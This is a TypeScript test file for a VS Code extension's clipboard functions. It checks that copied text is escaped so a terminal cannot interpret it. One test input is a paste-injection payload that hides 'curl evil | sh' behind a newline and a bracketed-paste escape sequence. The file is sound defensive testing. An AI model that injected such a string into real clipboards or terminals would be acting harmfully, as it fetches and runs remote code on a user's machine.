import assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { env } from 'vscode';
import { copyFromPage, copyLine, copyText } from '../../../../src/host/shown/clipboard.ts';
import { freshVscode } from '../../../support/fakeVscode/freshVscode.ts';
import { workbenchState } from '../../../support/fakeVscode/workbenchState.ts';
import { hostileNames } from '../../../support/hostileNames.ts';
import { root } from '../../../support/paths.ts';

describe('copied text', () => {
  freshVscode();

  const copied = async (copying: Promise<void>) => {
    await copying;
    return env.clipboard.readText();
  };

  it('is one line without anything that a terminal interprets or a reader can’t see', async () => {
    assert.equal(
      await copied(copyLine('unix:/tmp/a\ncurl evil | sh\n\x1b[201~')),
      'unix:/tmp/a\\ncurl evil | sh\\n\\e[201~',
    );
    for (const name of hostileNames)
      assert.doesNotMatch(await copied(copyLine(name)), /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
  });

  it('is named in the status bar if it is one line', async () => {
    assert.equal(await copied(copyLine('abcd')), 'abcd');
    assert.deepEqual(workbenchState.said.shown, ['Copied abcd']);
  });

  it('can be a text with its lines and tabs', async () => {
    assert.equal(await copied(copyText('a\n\tb\r\n\x1b[31mc')), 'a\n\tb\r\n\\e[31mc');
  });

  it('can come from a page', async () => {
    assert.equal(await copied(copyFromPage('a\nb')), 'a\nb');
  });

  it('always uses these functions', () => {
    const others = globSync('src/**/*.ts', { cwd: root }).filter(path => {
      const isOurs = path.replaceAll('\\', '/') === 'src/host/shown/clipboard.ts';
      return !isOurs && /\bclipboard\s*\.\s*writeText|\bwriteText\b/.test(readFileSync(join(root, path), 'utf8'));
    });
    assert.deepEqual(others, []);
  });
});
